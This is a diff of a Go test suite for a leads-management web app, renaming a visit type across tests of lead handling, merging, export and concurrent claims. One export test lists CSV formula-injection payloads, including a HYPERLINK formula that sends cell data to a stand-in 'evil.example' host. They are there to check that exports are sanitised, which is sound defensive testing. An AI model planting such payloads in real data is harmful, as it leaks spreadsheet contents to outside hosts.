@@ -48,7 +48,7 @@ func (d *desk) colleague(login string, sites scope.Sites) operator.Operator {
 
 func TestLeadsAreWorkedOn(t *testing.T) {
 	each(t, func(t *testing.T, d *desk) {
-		ann := d.lead(d.hit(visit.View{}), map[string]any{"name": "Ann", "phone": "8 495 123-45-67", "message": "Two lamps"})
+		ann := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Ann", "phone": "8 495 123-45-67", "message": "Two lamps"})
 		boris := d.colleague("boris", scope.Of(d.shop.ID))
 		vera, his := d.signedIn("vera"), d.signedIn("boris")
 		at := func(what string) string { return fmt.Sprintf("/leads/%s/%d/%d", what, d.shop.ID, ann.ID) }
@@ -94,7 +94,7 @@ func TestLeadsAreWorkedOn(t *testing.T) {
 // Whatever is asked for wrongly is said, and nothing is changed.
 func TestWrongWorkChangesNothing(t *testing.T) {
 	each(t, func(t *testing.T, d *desk) {
-		ann := d.lead(d.hit(visit.View{}), map[string]any{"name": "Ann", "message": "Two lamps"})
+		ann := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Ann", "message": "Two lamps"})
 		other, err := d.Sites.Provision(t.Context(), "other.example")
 		require.NoError(t, err)
 		eve := d.colleague("eve", scope.Of(other.ID))
@@ -156,7 +156,7 @@ func TestLeadNamesItsGroup(t *testing.T) {
 		require.NoError(t, err)
 		vera := d.signedIn("vera")
 		for id, expected := range map[int64]string{g.ID: g.Name, 999: "999"} {
-			l := d.lead(d.hit(visit.View{}), map[string]any{"name": "Ann", "group_id": id})
+			l := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Ann", "group_id": id})
 			facts := vera.get(fmt.Sprintf("/leads/%d/%d", d.shop.ID, l.ID)).page(t).Find(".facts dd")
 			require.Contains(t, facts.Map(func(_ int, s *goquery.Selection) string { return s.Text() }), expected)
 		}
@@ -165,10 +165,10 @@ func TestLeadNamesItsGroup(t *testing.T) {
 
 func TestLeadsAreMerged(t *testing.T) {
 	each(t, func(t *testing.T, d *desk) {
-		h := d.hit(visit.View{})
+		h := d.hit(visit.Arrival{})
 		first := d.lead(h, map[string]any{"name": "Ann", "phone": "8 495 123-45-67", "message": "Two lamps"})
 		d.pass(time.Hour)
-		second := d.lead(d.hit(visit.View{}), map[string]any{"name": "Anna P.", "phone": "+74951234567", "message": "Three lanterns", "user_fields": map[string]any{"city": "Tver"}})
+		second := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Anna P.", "phone": "+74951234567", "message": "Three lanterns", "user_fields": map[string]any{"city": "Tver"}})
 		vera := d.signedIn("vera")
 		page := fmt.Sprintf("/leads/%d/%d", d.shop.ID, first.ID)
 		alike := vera.get(page).page(t).Find(".alike")
@@ -212,7 +212,7 @@ func (b *browser) export(t *testing.T, query string) [][]string {
 // A table has all leads that the filters mean, in as many as there are, and no formula.
 func TestExport(t *testing.T) {
 	each(t, func(t *testing.T, d *desk) {
-		h := d.hit(visit.View{})
+		h := d.hit(visit.Arrival{})
 		formulas := []string{`=HYPERLINK("https://evil.example?"&A1)`, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\"=1", "|cmd", "%00",
 			"a;=HYPERLINK(1)", "a,=1", "a; \"+1", "a,'@b", "a\n-1", "a\r\n=1", "a\t=1", "a;＝1", "+7-495-123", "+7 495;=1"}
 		for i, formula := range formulas {
@@ -251,7 +251,7 @@ func TestExport(t *testing.T) {
 // Of two who take a lead at the same moment one has it, and the other is told.
 func TestTwoTakeAtOnce(t *testing.T) {
 	each(t, func(t *testing.T, d *desk) {
-		ann := d.lead(d.hit(visit.View{}), map[string]any{"name": "Ann", "message": "Two lamps"})
+		ann := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Ann", "message": "Two lamps"})
 		boris := d.colleague("boris", scope.All())
 		browsers, ids := []*browser{d.signedIn("vera"), d.signedIn("boris")}, []int64{1, boris.ID}
 		answers := make([]answer, 2)
